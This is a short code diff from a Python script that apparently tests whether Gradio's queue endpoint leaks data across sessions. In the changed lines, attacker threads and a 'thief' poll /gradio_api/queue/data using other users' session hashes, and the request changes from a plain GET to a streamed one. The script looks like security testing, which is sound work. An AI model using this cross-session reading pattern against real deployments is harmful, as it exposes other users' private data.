@@ -168,11 +168,10 @@ def main() -> None:
             while not done.is_set():
                 for user, client in clients.items():
                     if user != thief:
-                        code = http.get(
-                            "/gradio_api/queue/data", params={"session_hash": client.session_hash}
-                        )
-                        with lock:
-                            streams_read.append(code.status_code)
+                        where = {"session_hash": client.session_hash}
+                        with http.stream("GET", "/gradio_api/queue/data", params=where) as answer:
+                            with lock:
+                                streams_read.append(answer.status_code)
 
     attackers = [threading.Thread(target=guesser, args=(n,)) for n in range(args.attackers)]
     attackers += [threading.Thread(target=stream_reader)] if args.attackers else []
